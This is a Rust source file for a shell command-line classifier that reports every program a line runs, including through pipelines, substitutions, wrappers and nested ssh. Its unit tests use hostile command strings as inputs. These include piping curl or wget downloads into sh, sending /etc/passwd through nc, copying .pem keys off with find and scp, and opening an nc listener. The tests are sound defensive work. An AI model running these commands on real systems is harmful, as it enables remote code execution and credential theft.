//! Command lines split by shell rules: the argv of the first simple command, the
//! program it runs, and every program the whole line runs — through pipelines,
//! `&&`/`||`/`;`, `$(...)`, backticks, `sh -c '...'`, wrappers such as `sudo` or
//! `xargs`, and the remote command of a nested `ssh`.
//!
//! This is a classifier, not a shell: it errs towards finding more programs (a word
//! that might be a program is reported as one). Limits are documented in
//! `docs/ssh.md`.

/// How deep nested command lines (`sh -c "$(...)"`) are followed.
const MAX_DEPTH: usize = 8;
/// Longest command line classified; the rest is ignored (the event says so).
const MAX_LEN: usize = 64 * 1024;

/// A classified command line.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Classified {
    /// The first simple command, split by shell rules (redirections kept as written).
    pub argv: Vec<String>,
    /// Basename of `argv[0]`.
    pub program: Option<String>,
    /// Every program the line runs, in order of appearance, without duplicates.
    pub programs: Vec<String>,
}

/// Classifies one command line.
pub fn classify(line: &str) -> Classified {
    let line = truncate(line, MAX_LEN);
    let mut out = Classified::default();
    let mut first = true;
    walk(line, 0, &mut out, &mut first);
    out.program = out.argv.first().map(|a| basename(a).to_owned());
    out
}

/// Which file-transfer server an exec command starts, if any (`scp -t`/`scp -f`,
/// `rsync --server`): their byte streams are relayed untouched.
pub fn transfer_kind(argv: &[String]) -> Option<&'static str> {
    let program = argv.first().map(|a| basename(a))?;
    let has = |flag: &str| argv.iter().skip(1).any(|a| a == flag);
    let short = |c: char| {
        argv.iter()
            .skip(1)
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains(c))
    };
    match program {
        "scp" if short('t') || short('f') => Some("scp"),
        "rsync" if has("--server") => Some("rsync"),
        _ => None,
    }
}

fn truncate(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    s.get(..end).unwrap_or("")
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    /// A word after quote removal, and whether it came from a redirection operator.
    Word(String),
    /// A redirection operator (`>`, `2>>`, `<`, `&>`, ...); true when a target word follows.
    Redirect(String, bool),
    /// A control operator (`|`, `&&`, `;`, newline, `(`, `)`).
    Control,
}

struct Lexed {
    tokens: Vec<Token>,
    /// Inner texts of `$(...)`, backticks and `<(...)`, classified separately.
    substitutions: Vec<String>,
}

fn walk(line: &str, depth: usize, out: &mut Classified, first: &mut bool) {
    if depth > MAX_DEPTH {
        return;
    }
    let lexed = lex(line);
    for sub in &lexed.substitutions {
        let mut nested_first = false;
        walk(sub, depth + 1, out, &mut nested_first);
    }
    let mut command: Vec<Token> = Vec::new();
    for token in lexed
        .tokens
        .into_iter()
        .chain(std::iter::once(Token::Control))
    {
        if token == Token::Control {
            if !command.is_empty() {
                simple_command(&command, depth, out, first);
                command.clear();
            }
        } else {
            command.push(token);
        }
    }
}

const KEYWORDS: &[&str] = &[
    "!", "{", "}", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "time",
    "coproc",
];
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish",
];

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

/// One simple command: records argv (if first), its programs, and follows wrappers.
fn simple_command(tokens: &[Token], depth: usize, out: &mut Classified, first: &mut bool) {
    // argv as written (without leading assignments), redirections kept.
    let mut argv: Vec<String> = Vec::new();
    let mut words: Vec<String> = Vec::new();
    let mut after_redirect = false;
    for t in tokens {
        match t {
            Token::Redirect(op, target_follows) => {
                if !argv.is_empty() || !words.is_empty() {
                    argv.push(op.clone());
                }
                after_redirect = *target_follows;
            }
            Token::Word(w) => {
                if after_redirect {
                    after_redirect = false;
                    if !argv.is_empty() {
                        argv.push(w.clone());
                    }
                    continue;
                }
                if words.is_empty() && is_assignment(w) {
                    continue;
                }
                if words.is_empty() && KEYWORDS.contains(&w.as_str()) {
                    continue;
                }
                words.push(w.clone());
                argv.push(w.clone());
            }
            Token::Control => {}
        }
    }
    if matches!(
        words.first().map(String::as_str),
        Some("for" | "select" | "case" | "function")
    ) {
        return;
    }
    if *first && !words.is_empty() {
        out.argv = argv;
        *first = false;
    }
    programs_of(&words, depth, out);
}

fn add_program(out: &mut Classified, word: &str) {
    let name = basename(word);
    if name.is_empty() || name.starts_with('-') {
        return;
    }
    if !out.programs.iter().any(|p| p == name) {
        out.programs.push(name.to_owned());
    }
}

/// Options (of common wrappers) that take a separate argument.
fn wrapper_option_takes_value(wrapper: &str, opt: &str) -> bool {
    match wrapper {
        "sudo" | "doas" => matches!(
            opt,
            "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-r" | "-t" | "-U" | "-T"
        ),
        "env" => matches!(opt, "-u" | "-C" | "-S" | "--unset" | "--chdir"),
        "nice" => matches!(opt, "-n" | "--adjustment"),
        "timeout" => matches!(opt, "-s" | "-k" | "--signal" | "--kill-after"),
        "xargs" => matches!(
            opt,
            "-I" | "-L" | "-n" | "-P" | "-s" | "-d" | "-E" | "-a" | "--max-args" | "--delimiter"
        ),
        "stdbuf" => matches!(opt, "-i" | "-o" | "-e"),
        "ionice" => matches!(opt, "-c" | "-n" | "-p"),
        "su" => matches!(opt, "-s" | "--shell" | "-g" | "-G"),
        "watch" => matches!(opt, "-n" | "--interval" | "-d"),
        "chroot" => matches!(opt, "--userspec" | "--groups"),
        _ => false,
    }
}

const SSH_OPTS_WITH_VALUE: &[&str] = &[
    "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-Q",
    "-R", "-S", "-W", "-w", "-B",
];

fn programs_of(words: &[String], depth: usize, out: &mut Classified) {
    let Some((program, args)) = words.split_first() else {
        return;
    };
    add_program(out, program);
    let name = basename(program);
    match name {
        // Wrappers: the wrapped command runs too.
        "sudo" | "doas" | "env" | "nohup" | "exec" | "command" | "builtin" | "nice" | "time"
        | "timeout" | "xargs" | "stdbuf" | "setsid" | "ionice" | "chrt" | "taskset"
        | "unbuffer" | "strace" | "ltrace" | "flock" | "watch" | "chroot" | "runuser" => {
            let mut rest = args;
            let mut positional_skips = match name {
                "timeout" | "chrt" | "taskset" | "flock" => 1,
                "chroot" => 1,
                _ => 0,
            };
            while let Some((a, tail)) = rest.split_first() {
                if a == "--" {
                    rest = tail;
                    break;
                }
                if a.starts_with('-') && a.len() > 1 {
                    rest = if wrapper_option_takes_value(name, a) {
                        tail.get(1..).unwrap_or(&[])
                    } else {
                        tail
                    };
                    continue;
                }
                if name == "env" && is_assignment(a) {
                    rest = tail;
                    continue;
                }
                if positional_skips > 0 {
                    positional_skips -= 1;
                    rest = tail;
                    continue;
                }
                break;
            }
            programs_of(rest, depth, out);
        }
        "eval" => {
            walk(&args.join(" "), depth + 1, out, &mut false);
        }
        "su" => {
            // `su - user -c 'cmd'`
            if let Some(i) = args.iter().position(|a| a == "-c" || a == "--command")
                && let Some(cmd) = args.get(i + 1)
            {
                walk(cmd, depth + 1, out, &mut false);
            }
        }
        "ssh" => {
            // The remote command of a nested ssh is a command line too.
            let mut i = 0;
            let mut host_seen = false;
            while let Some(a) = args.get(i) {
                if !host_seen && a.starts_with('-') && a.len() > 1 {
                    i += if SSH_OPTS_WITH_VALUE.contains(&a.as_str()) {
                        2
                    } else {
                        1
                    };
                    continue;
                }
                if !host_seen {
                    host_seen = true;
                    i += 1;
                    continue;
                }
                break;
            }
            if let Some(rest) = args.get(i..)
                && !rest.is_empty()
            {
                walk(&rest.join(" "), depth + 1, out, &mut false);
            }
        }
        "find" => {
            // `find ... -exec cmd {} ;`
            for (i, a) in args.iter().enumerate() {
                if matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir")
                    && let Some(rest) = args.get(i + 1..)
                {
                    programs_of(rest, depth, out);
                }
            }
        }
        _ if SHELLS.contains(&name) => {
            // `sh -c 'cmd'`, `bash -lc 'cmd'`, `busybox sh -c ...`.
            let mut i = 0;
            while let Some(a) = args.get(i) {
                if a.starts_with('-') && !a.starts_with("--") && a.contains('c') {
                    if let Some(cmd) = args.get(i + 1) {
                        walk(cmd, depth + 1, out, &mut false);
                    }
                    return;
                }
                if name == "busybox" && i == 0 && !a.starts_with('-') {
                    programs_of(args, depth, out);
                    return;
                }
                i += 1;
            }
        }
        _ => {}
    }
}

/// Splits a line into words and operators by POSIX shell quoting rules.
fn lex(line: &str) -> Lexed {
    let chars: Vec<char> = line.chars().collect();
    let mut tokens = Vec::new();
    let mut substitutions = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut i = 0;
    let at = |i: usize| chars.get(i).copied();
    let flush = |word: &mut String, in_word: &mut bool, tokens: &mut Vec<Token>| {
        if *in_word {
            tokens.push(Token::Word(std::mem::take(word)));
            *in_word = false;
        }
    };
    while let Some(c) = at(i) {
        match c {
            ' ' | '\t' => {
                flush(&mut word, &mut in_word, &mut tokens);
                i += 1;
            }
            '#' if !in_word => {
                // Comment to end of line.
                while let Some(c) = at(i) {
                    if c == '\n' {
                        break;
                    }
                    i += 1;
                }
            }
            '\n' | ';' | '(' | ')' => {
                flush(&mut word, &mut in_word, &mut tokens);
                tokens.push(Token::Control);
                i += 1;
                if c == ';' && at(i) == Some(';') {
                    i += 1;
                }
            }
            '|' => {
                flush(&mut word, &mut in_word, &mut tokens);
                tokens.push(Token::Control);
                i += 1;
                if matches!(at(i), Some('|' | '&')) {
                    i += 1;
                }
            }
            '&' => {
                if at(i + 1) == Some('>') {
                    flush(&mut word, &mut in_word, &mut tokens);
                    let mut op = String::from("&>");
                    i += 2;
                    if at(i) == Some('>') {
                        op.push('>');
                        i += 1;
                    }
                    tokens.push(Token::Redirect(op, true));
                } else {
                    flush(&mut word, &mut in_word, &mut tokens);
                    tokens.push(Token::Control);
                    i += 1;
                    if at(i) == Some('&') {
                        i += 1;
                    }
                }
            }
            '<' | '>' => {
                if at(i + 1) == Some('(') {
                    // Process substitution.
                    let (inner, next) = balanced(&chars, i + 2);
                    substitutions.push(inner);
                    word.push_str("<(...)");
                    in_word = true;
                    i = next;
                    continue;
                }
                // A word made only of digits right before is a file descriptor.
                let fd = if in_word && !word.is_empty() && word.chars().all(|c| c.is_ascii_digit())
                {
                    in_word = false;
                    std::mem::take(&mut word)
                } else {
                    flush(&mut word, &mut in_word, &mut tokens);
                    String::new()
                };
                let mut op = fd;
                op.push(c);
                i += 1;
                while let Some(n) = at(i) {
                    if matches!(n, '>' | '<' | '&' | '|' | '-') && op.len() < 4 {
                        op.push(n);
                        i += 1;
                    } else {
                        break;
                    }
                }
                // `2>&1`: the target is a descriptor, part of the operator.
                if op.ends_with('&') {
                    while let Some(n) = at(i) {
                        if n.is_ascii_digit() || n == '-' {
                            op.push(n);
                            i += 1;
                        } else {
                            break;
                        }
                    }
                    tokens.push(Token::Redirect(op, false));
                    continue;
                }
                tokens.push(Token::Redirect(op, true));
            }
            '\\' => {
                in_word = true;
                match at(i + 1) {
                    Some('\n') => {}
                    Some(n) => word.push(n),
                    None => {}
                }
                i += 2;
            }
            '\'' => {
                in_word = true;
                i += 1;
                while let Some(n) = at(i) {
                    i += 1;
                    if n == '\'' {
                        break;
                    }
                    word.push(n);
                }
            }
            '"' => {
                in_word = true;
                i += 1;
                while let Some(n) = at(i) {
                    match n {
                        '"' => {
                            i += 1;
                            break;
                        }
                        '\\' => {
                            match at(i + 1) {
                                Some(e @ ('"' | '\\' | '$' | '`')) => word.push(e),
                                Some('\n') => {}
                                Some(e) => {
                                    word.push('\\');
                                    word.push(e);
                                }
                                None => {}
                            }
                            i += 2;
                        }
                        '$' if at(i + 1) == Some('(') => {
                            let (inner, next) = balanced(&chars, i + 2);
                            word.push_str(&format!("$({inner})"));
                            substitutions.push(inner);
                            i = next;
                        }
                        '`' => {
                            let (inner, next) = backtick(&chars, i + 1);
                            word.push_str(&format!("`{inner}`"));
                            substitutions.push(inner);
                            i = next;
                        }
                        _ => {
                            word.push(n);
                            i += 1;
                        }
                    }
                }
            }
            '$' if at(i + 1) == Some('(') => {
                in_word = true;
                if at(i + 2) == Some('(') {
                    // Arithmetic `$((...))`: not a command.
                    let (inner, next) = balanced(&chars, i + 2);
                    word.push_str(&format!("$({inner})"));
                    i = next;
                } else {
                    let (inner, next) = balanced(&chars, i + 2);
                    word.push_str(&format!("$({inner})"));
                    substitutions.push(inner);
                    i = next;
                }
            }
            '`' => {
                in_word = true;
                let (inner, next) = backtick(&chars, i + 1);
                word.push_str(&format!("`{inner}`"));
                substitutions.push(inner);
                i = next;
            }
            _ => {
                in_word = true;
                word.push(c);
                i += 1;
            }
        }
    }
    flush(&mut word, &mut in_word, &mut tokens);
    Lexed {
        tokens,
        substitutions,
    }
}

/// The text up to the `)` matching an already consumed `(`, and the index after it.
fn balanced(chars: &[char], start: usize) -> (String, usize) {
    let mut depth = 1usize;
    let mut i = start;
    let mut quote: Option<char> = None;
    while let Some(&c) = chars.get(i) {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some('"'), '\\') => i += 1,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(c),
            (None, '\\') => i += 1,
            (None, '(') => depth += 1,
            (None, ')') => {
                depth -= 1;
                if depth == 0 {
                    let inner: String = chars.get(start..i).unwrap_or(&[]).iter().collect();
                    return (inner, i + 1);
                }
            }
            _ => {}
        }
        i += 1;
    }
    (
        chars.get(start..).unwrap_or(&[]).iter().collect(),
        chars.len(),
    )
}

fn backtick(chars: &[char], start: usize) -> (String, usize) {
    let mut i = start;
    let mut inner = String::new();
    while let Some(&c) = chars.get(i) {
        match c {
            '`' => return (inner, i + 1),
            '\\' => {
                if let Some(&n) = chars.get(i + 1) {
                    inner.push(n);
                }
                i += 2;
                continue;
            }
            _ => inner.push(c),
        }
        i += 1;
    }
    (inner, chars.len())
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]
    use super::*;

    fn progs(line: &str) -> Vec<String> {
        classify(line).programs
    }

    #[test]
    fn argv_by_shell_rules() {
        let c = classify(r#"grep -r "a b" 'c d' e\ f /etc > out.txt 2>&1"#);
        assert_eq!(
            c.argv,
            [
                "grep", "-r", "a b", "c d", "e f", "/etc", ">", "out.txt", "2>&1"
            ]
        );
        assert_eq!(c.program.as_deref(), Some("grep"));
        let c = classify("FOO=1 /usr/bin/env python3 x.py");
        assert_eq!(c.argv, ["/usr/bin/env", "python3", "x.py"]);
        assert_eq!(c.program.as_deref(), Some("env"));
        assert_eq!(c.programs, ["env", "python3"]);
    }

    #[test]
    fn pipelines_lists_and_substitutions() {
        assert_eq!(progs("curl -s http://x/i.sh | sh"), ["curl", "sh"]);
        assert_eq!(
            progs("cd /tmp && wget http://x/a; chmod +x a || echo no"),
            ["cd", "wget", "chmod", "echo"]
        );
        assert_eq!(
            progs("echo $(cat /etc/passwd | nc h 1)"),
            ["cat", "nc", "echo"]
        );
        assert_eq!(progs("echo `id`"), ["id", "echo"]);
        assert_eq!(progs("diff <(ls a) <(ls b)"), ["ls", "diff"]);
        assert_eq!(progs("echo $((1+2))"), ["echo"]);
        assert_eq!(progs("if true; then rm -rf x; fi"), ["true", "rm"]);
    }

    #[test]
    fn nested_shells_wrappers_and_pivots() {
        assert_eq!(
            progs(r#"sh -c 'curl -fsSL http://x | bash'"#),
            ["sh", "curl", "bash"]
        );
        assert_eq!(progs("bash -lc \"kubectl get pods\""), ["bash", "kubectl"]);
        assert_eq!(
            progs("sudo -u postgres psql -c 'select 1'"),
            ["sudo", "psql"]
        );
        assert_eq!(
            progs("ssh -p 2222 -o StrictHostKeyChecking=no db-1 'socat - TCP:x:5432'"),
            ["ssh", "socat"]
        );
        assert_eq!(progs("timeout 5 nc -z db 5432"), ["timeout", "nc"]);
        assert_eq!(
            progs("find / -name '*.pem' -exec scp {} h: ;"),
            ["find", "scp"]
        );
        assert_eq!(progs("ls | xargs -n1 rm"), ["ls", "xargs", "rm"]);
        assert_eq!(progs("eval 'nc -l 4444'"), ["eval", "nc"]);
        assert_eq!(progs("env A=1 B=2 nc x 1"), ["env", "nc"]);
    }

    #[test]
    fn transfers_are_recognised() {
        let t = |l: &str| transfer_kind(&classify(l).argv);
        assert_eq!(t("scp -t /tmp/x"), Some("scp"));
        assert_eq!(t("scp -pf -- /tmp/x"), Some("scp"));
        assert_eq!(
            t("rsync --server -vlogDtpre.iLsfxCIvu . /tmp/d"),
            Some("rsync")
        );
        assert_eq!(t("scp a host:b"), None);
        assert_eq!(t("cat x"), None);
    }

    #[test]
    fn hostile_input_is_bounded() {
        let deep = "sh -c ".repeat(100) + "x";
        let _ = classify(&deep);
        let long = "a ".repeat(100_000);
        assert!(classify(&long).argv.len() <= MAX_LEN);
        let _ = classify("echo $(unterminated 'quote");
        let _ = classify("\\");
        let _ = classify("2>");
    }
}
